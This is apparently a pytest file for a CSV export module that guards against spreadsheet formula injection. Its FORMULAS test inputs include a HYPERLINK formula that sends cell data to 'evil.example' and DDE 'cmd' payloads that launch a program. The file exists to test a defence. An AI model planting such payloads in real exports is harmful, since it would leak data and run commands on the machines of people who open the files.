"""A table that is exported shows what was written, and a spreadsheet runs nothing of it."""

import csv
import io

import pytest

from studio.data.spreadsheet import as_table, spreadsheet_safe

FORMULAS = (
    "=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b=1", "＝1", "＋1", "－1", "＠1",
    '=HYPERLINK("http://evil.example?"&A1,"click")', "+cmd|' /C calc'!A0", "=cmd|'/C calc'!'A1'", "\x00=1", " \t\r\n\v=1", "\tno formula",
)  # fmt: skip
PLAIN = ("a = b", "", "1", "'quoted", "it's", "a\nb", 'say "so"', "a;=b", "a,=b", "a\t=b", "日本", "🙂")


def read(table: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table.decode(), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_as_a_formula(text: str):
    ((head,), (cell, number)) = read(b"".join(as_table([text], [[text, -2]])))
    assert head == cell == f"'{text}" and number == "-2"


@pytest.mark.parametrize("text", PLAIN)
def test_whatever_is_none_is_left_as_it_was_written(text: str):
    assert spreadsheet_safe(text) == text
    assert read(b"".join(as_table(["text"], [[text]])))[1] == [text]


def test_every_text_is_in_quotes_so_that_no_sign_in_it_parts_cells():
    assert b"".join(as_table(["a"], [["x;=1"], [None], [3]])) == b'"a"\r\n"x;=1"\r\n""\r\n3\r\n'


def test_a_long_table_comes_in_parts():
    parts = list(as_table(["text"], (["x" * 1000] for _ in range(500))))
    assert len(parts) > 5 and len(read(b"".join(parts))) == 501
